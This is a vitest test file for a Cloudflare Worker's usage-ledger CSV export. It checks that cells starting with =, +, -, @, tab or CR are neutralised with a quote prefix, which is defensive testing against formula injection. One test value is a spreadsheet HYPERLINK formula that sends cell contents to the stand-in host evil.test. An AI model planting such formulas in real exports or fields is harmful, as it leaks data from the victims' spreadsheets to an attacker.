import { env as testEnv } from 'cloudflare:test';
import { describe, expect, it } from 'vitest';
import type { Env } from '../../worker/env';
import { ledgerName } from '../../worker/telemetry/record';
import type { UsageRecord } from '../../worker/protocol/usage-record';
import { baseConfig, envWith } from './support';
import { admin, uid } from './usage-support';

// Issue 12 item 10: /admin/usage?format=csv neutralises cells a spreadsheet would run as formulas.

const env = testEnv as unknown as Env;

function record(tenant: string, i: number, user: string): UsageRecord {
  return {
    v: 1, request_id: `r-${tenant}-${i}`, ts: Date.UTC(2026, 4, 1, 10, 0, 0) + i, tenant, key_id: 'k1', user, feature: null, endpoint: 'chat',
    requested_model: 'm', model: 'm', backend: 'b', region: 'here', tier: 'fast', prompt_tokens: 10, cached_tokens: 0, completion_tokens: 5,
    tokens_estimated: false, cost_usd: 0.001, saved_usd: 0, latency_ms: 100, ttft_ms: null, tokens_per_s: null, status: 200, outcome: 'ok',
    cache: 'miss', attempts: 1, path: ['b'], error_code: null,
  };
}

describe('usage CSV export', () => {
  it('prefixes cells beginning with =, +, -, @, tab or CR with a quote; JSON keeps the value as it is', async () => {
    const t = `csv-${uid()}`;
    const cfg = baseConfig();
    cfg.tenants[t] = { models: ['*'] };
    const users = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd', 'plain-user'];
    const ledger = env.USAGE_LEDGER.get(env.USAGE_LEDGER.idFromName(ledgerName(t)));
    await ledger.append(users.map((u, i) => record(t, i, u)), 90);
    const range = `from=${new Date(Date.UTC(2026, 4, 1, 9)).toISOString()}&to=${Date.UTC(2026, 4, 1, 12)}`;
    const res = await admin(`/admin/usage?group_by=user&format=csv&tenant=${t}&${range}`, { env: envWith(cfg) });
    expect(res.status).toBe(200);
    const cells = (await res.text()).trimEnd().split('\r\n').slice(1).map((l) => l.replace(/,1,10,5,.*$/, ''));
    expect(cells.sort()).toEqual(
      [`"'=HYPERLINK(""http://evil.test/?x=""&A1,""click"")"`, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tcmd", `"'\rcmd"`, 'plain-user'].sort(),
    );
    const json = (await (await admin(`/admin/usage?group_by=user&tenant=${t}&${range}`, { env: envWith(cfg) })).json()) as { rows: { user: string }[] };
    expect(json.rows.map((r) => r.user).sort()).toEqual([...users].sort());
  });
});
